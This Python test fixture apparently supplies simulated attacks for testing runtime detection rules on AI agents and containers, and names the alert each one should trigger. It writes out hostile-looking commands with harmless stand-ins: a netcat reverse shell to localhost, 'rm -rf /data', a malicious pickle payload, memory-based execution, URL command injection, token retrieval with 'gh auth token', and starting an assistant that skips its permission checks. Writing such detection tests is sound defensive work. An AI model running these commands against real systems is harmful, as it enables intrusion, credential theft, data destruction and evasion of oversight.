"""What agents start: rules/agent/execution.yaml, assistants.yaml and code.yaml."""

from __future__ import annotations

from support.attacks.attack import NETWORK_TOOL, SHELL, UPPER, Attack

__all__ = ["ATTACKS"]

ATTACKS = (
    Attack("shell", 'run("/bin/sh", "-c", "exit 0")', {SHELL: "/bin/sh"}, "sh"),
    Attack(
        "download",
        'run("/bin/wget", "-q", "-O", "/dev/null", "http://127.0.0.1:1/x")',
        {"Download tool started by an AI agent": "/bin/wget"},
        "wget",
    ),
    Attack(
        "pip",
        'run("/usr/bin/python3", "-m", "pip", "install", "reqeusts")',
        {"Package installed at run time in an AI container": "/usr/bin/python3.*"},
    ),
    Attack(
        "network-tool",
        'run("/bin/nslookup", "example.com", "127.0.0.1")',
        {NETWORK_TOOL: "/bin/nslookup"},
        "nslookup",
    ),
    Attack(
        "model-server",
        'run("/opt/ollama", "-c", "import os; os.execv(\'/bin/true\', [\'true\']) '
        'if os.fork() == 0 else os.wait()")',
        {"Unexpected child of a model server": "/bin/true"},
        "true",
    ),
    Attack(
        "scratch",
        'run("/tmp/kworker")',
        {"Program run from a scratch directory in a container": "/tmp/kworker", UPPER: "/tmp/.*"},
        "kworker",
    ),
    Attack("dropped", 'run("/srv/helper")', {UPPER: "/srv/helper"}, "helper"),
    Attack(
        "memfd",
        'fd = os.memfd_create("payload", 0)\n'
        'os.write(fd, open("/bin/busybox", "rb").read())\n'
        'os.execv(f"/proc/self/fd/{fd}", ["true"]) if os.fork() == 0 else os.wait()',
        {"Program run from memory in a container": ".*payload.*"},
        r"\d+",
    ),
    Attack(
        "encoded",
        'run("/bin/ash", "-c", "echo aWQ= | base64 -d | cat")',
        {"Encoded command run below an AI agent": "/bin/ash", SHELL: "/bin/ash"},
        "ash",
    ),
    Attack(
        "assistant",
        'run("/opt/claude", "-c", "pass", "--dangerously-skip-permissions")',
        {"AI assistant started without permission checks by another program": "/usr/bin/python3.*"},
        "claude",
    ),
    Attack(
        "hook-assistant",
        "install(\"subprocess.run(['/opt/claude', '-c', 'pass'])\")",
        {"AI assistant started by a package install": "/usr/bin/python3.*"},
        "claude",
    ),
    Attack(
        "asked-token",
        'run("/opt/bin/gh", "auth", "token")',
        {"Credentials asked of a command line tool by an AI agent or package install": "/bin/true"},
        "gh",
    ),
    Attack(
        "public-repository",
        'run("/opt/bin/gh", "repo", "create", "s1ngularity-repository", "--public")',
        {"Repository or gist made by an AI agent or package install": "/bin/true"},
        "gh",
    ),
    Attack(
        "pushed",
        'run("/opt/bin/git", "push", "https://git.example/x.git", "main")',
        {"Git pushed to an address instead of a remote": "/bin/true"},
        "git",
    ),
    Attack(
        "opened-address",
        'run("/opt/bin/xdg-open", "https://as.example/authorize?x=$(id)")',
        {"Command inside an address that a client opens": "/bin/true"},
        "xdg-open",
    ),
    Attack(
        "hook",
        'run("/root/.claude/hooks/pre.sh")',
        {"Hook or skill of an assistant run": "/bin/true"},
        "pre.sh",
    ),
    Attack(
        "isolation-tool",
        'run("/bin/unshare", "--help")',
        {"Isolation tool started below an AI agent": "/bin/unshare"},
        "unshare",
    ),
    Attack(
        "pickle",
        "evil = type('Evil', (), {'__reduce__': lambda _: (os.system, ('exit 0',))})()\n"
        "import pickle; open('/srv/evil.pkl', 'wb').write(pickle.dumps(evil))\n"
        'run("/usr/bin/python3", "-c", "import pickle, sys; '
        'pickle.load(open(sys.argv[1], \'rb\'))", "/srv/evil.pkl")',
        {"Shell started by the loader of a pickled model": "/bin/sh", SHELL: "/bin/sh"},
        "sh",
    ),
    Attack(
        "shell-by-nc",
        'run("/bin/nc", "127.0.0.1", "1", "-e", "/bin/sh")',
        {"Reverse shell on a command line": "/bin/nc", NETWORK_TOOL: "/bin/nc"},
        "nc",
    ),
    Attack(
        "interactive",
        'run("/bin/sh", "-i")',
        {"Interactive shell without a terminal below an AI agent": "/bin/sh", SHELL: "/bin/sh"},
        "sh",
    ),
    Attack(
        "destruction",
        'run("/bin/rm", "-rf", "/data")',  # there is no /data
        {"Destructive command run below an AI agent": "/bin/rm"},
        "rm",
    ),
    Attack(
        "sudo",
        'run("/opt/bin/sudo", "-n", "true")',
        {"Other user's rights taken below an AI agent": "/bin/true"},
        "sudo",
    ),
    Attack(
        "scanner",
        'run("/opt/bin/trufflehog", "filesystem", "/")',
        {"Attack or secret scanning tool started in an AI container": "/bin/true"},
        "trufflehog",
    ),
)
